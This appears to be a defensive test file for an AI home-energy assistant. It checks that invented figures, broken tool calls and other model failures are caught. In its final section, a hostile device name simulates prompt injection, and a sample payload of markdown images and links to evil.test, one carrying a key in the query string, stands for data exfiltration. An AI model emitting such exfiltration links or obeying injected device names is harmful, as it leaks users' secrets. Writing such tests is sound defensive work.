import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { HOSTILE_NAME } from '../../shared/home/demo/energy-things.ts'
import { createFakeModel, type FakeBody, type FakeModel, type FakeStep } from '../fakes/fake-model.ts'
import { serveModel } from '../fakes/serve-model.ts'
import { calling, goodModel, jobOf, lastUserText, resultsOf } from '../fakes/team-model.ts'
import { ask, read } from '../harness/chat.ts'
import { describeMatrix } from '../matrix.ts'

/**
 * The whole chain with a language model behind a socket, as with `LLM_BASE_URL`: a good one, and the ways in which real
 * ones go wrong. `behave` is what the model does in the test at hand.
 */
let behave: (body: FakeBody) => FakeStep = goodModel
let fake: FakeModel
let server: Awaited<ReturnType<typeof serveModel>>
let asked = 0

beforeAll(async () => {
  fake = createFakeModel([{ kind: 'answer', by: (body) => behave(body) }])
  server = await serveModel(fake)
})
afterAll(() => server.stop())
beforeEach(() => {
  behave = goodModel
  asked = fake.requests.length
})
const requests = () => fake.requests.slice(asked)

interface WireAnalysis {
  readonly window: { readonly start: string; readonly end: string }
  readonly scripts: readonly { readonly code: string; readonly exit_class: string }[]
  readonly findings: readonly {
    readonly kind: string
    readonly confidence: { readonly factors: readonly { readonly name: string; readonly value: number }[] }
  }[]
}

describeMatrix('a real language model', { model: (request) => server.fetch(request) }, (deployment) => {
  const analysisOf = async (runId: string) => {
    const run = await read<{ analysis_ids: string[] }>(deployment(), `/api/v1/runs/${runId}`)
    return read<WireAnalysis>(deployment(), `/api/v1/analyses/${run.analysis_ids[0]}`)
  }

  describe('a good one', () => {
    it('routes, delegates, writes a script that runs in gVisor and agrees, and words the ledger', async () => {
      const answer = await ask(deployment(), 'How much energy did I use last week?')
      expect(requests().map(jobOf)).toEqual(['route', 'converse', 'select', 'script', 'synthesise'])
      const analysis = await analysisOf(answer.runId)
      expect(analysis.scripts.map((script) => script.exit_class)).toEqual(['ok'])
      const total = analysis.findings.find((finding) => finding.kind === 'total')
      expect(total?.confidence.factors.find((factor) => factor.name === 'agreement')?.value).toBe(0.98)
      expect(answer.text).toMatch(/the home used \d+\.\d+ kWh/)
      expect(answer.text).toMatch(/demo home/)
      expect(answer.text).not.toMatch(/offline/)
      expect(answer.done).toBe(true)
    })

    it('cannot move the window by a slip with dates', async () => {
      const answer = await ask(deployment(), 'How much energy did I use last week?')
      expect(answer.text).toContain('16 Nov 2026 to 22 Nov 2026')
    })

    it('need not state the confidence itself: it is said all the same, with what limits it', async () => {
      const answer = await ask(deployment(), 'How much energy did I use last week?')
      expect(answer.text).toMatch(/Confidence: \d+ % \(.+\)\./)
    })

    it('hears the whole ledger in a size that a small model can hold', async () => {
      await ask(deployment(), 'Analyze my energy usage')
      expect(JSON.stringify(requests().at(-1)).length).toBeLessThan(32_000)
    })
  })

  describe('one that goes wrong', () => {
    const when = (job: string, step: (body: FakeBody) => FakeStep) => {
      behave = (body) => (jobOf(body) === job ? step(body) : goodModel(body))
    }

    it('invents numbers over a ledger: they are named once, then taken out', async () => {
      when('synthesise', () => ({
        kind: 'reply',
        text: 'You used 98765.4 kWh, a record. It is cold outside.',
      }))
      const { text } = await ask(deployment(), 'How much energy did I use last week?')
      expect(requests().filter((body) => jobOf(body) === 'synthesise')).toHaveLength(2)
      expect(text).not.toContain('98765')
      expect(text).toContain('It is cold outside.')
      expect(text).toContain('16 Nov 2026 to 22 Nov 2026')
    })

    it('answers from the top of its head: no figure goes out that nothing stands behind', async () => {
      when('converse', () => ({ kind: 'reply', text: 'Gladly. You used 98765.4 kWh. Ask on.' }))
      const { text, done } = await ask(deployment(), 'How much energy did I use last week?')
      expect(text).toBe('Gladly. Ask on.')
      expect(done).toBe(true)
    })

    it('says nothing but invented figures: the answer says that there are none', async () => {
      when('converse', () => ({ kind: 'reply', text: 'You used 98765.4 kWh.' }))
      expect((await ask(deployment(), 'How much energy did I use last week?')).text).toMatch(
        /no checked figures/,
      )
    })

    it('writes arguments that are no JSON: it is told, and may try again', async () => {
      when('converse', (body) =>
        resultsOf(body).length === 0 ? calling('analyze', '{"question": "How') : retried(body),
      )
      const retried = (body: FakeBody) =>
        resultsOf(body).length === 1
          ? calling('analyze', { question: lastUserText(body) })
          : ({ kind: 'reply', text: 'It used 98765.4 kWh.' } as const)
      const { text } = await ask(deployment(), 'How much energy did I use last week?')
      expect(text).not.toContain('98765')
      expect(text).toContain('16 Nov 2026 to 22 Nov 2026')
    })

    it('calls tools that do not exist everywhere: the question is answered by rule as far as it can be', async () => {
      behave = (body) =>
        jobOf(body) === 'converse' ? goodModel(body) : calling('analyse_energy', { question: 'x' })
      const { events, text } = await ask(deployment(), 'Which batteries are low?')
      expect(events.find((event) => event.to === 'ds_analysts')?.analysts).toEqual(['diagnostic'])
      expect(text).toContain('8 %')
    })

    it('calls several tools at once: each runs, and the wording is checked', async () => {
      when('converse', (body) =>
        resultsOf(body).length > 0
          ? { kind: 'reply', text: 'Two things: 98765.4 kWh. And the lights are on.' }
          : {
              kind: 'reply',
              calls: [
                { name: 'analyze', arguments: JSON.stringify({ question: 'How much energy yesterday?' }) },
                { name: 'find_entities', arguments: '{"query":"","domain":"light"}' },
              ],
            },
      )
      const { text } = await ask(deployment(), 'How much energy yesterday, and which lights are on?')
      expect(text).toContain('And the lights are on.')
      expect(text).not.toContain('98765')
    })

    it('never stops calling tools: the turn ends, within its bounds, and says so', async () => {
      when('converse', () => calling('find_entities', { query: 'lamp' }))
      const { text, done } = await ask(deployment(), 'Which lamps are on?')
      expect(requests().filter((body) => jobOf(body) === 'converse').length).toBeLessThanOrEqual(8)
      expect(text).toMatch(/found no words/)
      expect(done).toBe(true)
    })

    it('answers nothing at all: a typed error, then the end', async () => {
      behave = () => ({ kind: 'reply', text: '' })
      const { chunks, done, runId } = await ask(deployment(), 'How are you?')
      expect(chunks.find((chunk) => chunk.error)?.error?.code).toBe('llm_unavailable')
      expect(done).toBe(true)
      expect(await read(deployment(), `/api/v1/runs/${runId}`)).toMatchObject({ state: 'failed' })
    })

    it('falls silent after the analysis: what was found is the answer', async () => {
      when('converse', (body) => {
        if (resultsOf(body).length > 0) return { kind: 'cut', text: 'So' }
        const calls = ['yesterday', 'last week'].map((when) => ({
          name: 'analyze',
          arguments: JSON.stringify({ question: `How much energy ${when}?` }),
        }))
        return { kind: 'reply', calls }
      })
      const { text } = await ask(deployment(), 'How much energy yesterday and last week?')
      expect(text).toMatch(/On 23 Nov 2026 the home used [\s\S]*From 16 Nov 2026 to 22 Nov 2026/)
      expect(text).toMatch(/fell silent/)
    })

    it('puts its script into the text: it is run all the same', async () => {
      when('script', () => ({
        kind: 'reply',
        text: 'Here:\n```python\nimport aether\naether.result({"total_kwh": 1})\n```',
      }))
      const { runId } = await ask(deployment(), 'How much energy did I use last week?')
      expect((await analysisOf(runId)).scripts[0]?.exit_class).toBe('ok')
    })
  })

  describe('a hostile friendly name (S1)', () => {
    it('is data in every prompt, and nowhere in a script', async () => {
      const { runId } = await ask(deployment(), 'Which device used the most energy last week?')
      const escaped = JSON.stringify(HOSTILE_NAME).slice(1, -1)
      for (const body of requests())
        for (const message of body.messages) {
          const outside = (message.content ?? '').replace(/<data [\s\S]*?<\/data[^>]*>/g, '')
          expect(outside).not.toContain(HOSTILE_NAME.slice(0, 12))
          expect(message.content ?? '').not.toContain(HOSTILE_NAME)
        }
      expect(JSON.stringify(requests().map((body) => body.messages))).toContain(
        JSON.stringify(escaped).slice(1, 12),
      )
      for (const { code } of (await analysisOf(runId)).scripts)
        expect(code).not.toContain(HOSTILE_NAME.slice(0, 12))
    })

    it('that a model obeys changes nothing: no figure, no image, no link of its making goes out', async () => {
      const evil = '![x](https://evil.test/?q=key) [here](https://evil.test) <img src="https://evil.test/a">'
      behave = (body) => {
        if (jobOf(body) === 'synthesise') return { kind: 'reply', text: `Done. It used 999 kWh. ${evil}` }
        if (jobOf(body) === 'converse' && resultsOf(body).length > 0)
          return { kind: 'reply', text: `Deployed. ${evil}` }
        return jobOf(body) === 'converse' && lastUserText(body).includes('plug')
          ? calling('find_entities', { query: 'guest room plug' })
          : goodModel(body)
      }
      for (const question of ['How much energy did I use last week?', 'Is the guest room plug on?']) {
        const { text } = await ask(deployment(), question)
        expect(text).not.toMatch(/!\[|\]\(|<img|999 kWh/)
      }
    })
  })
})
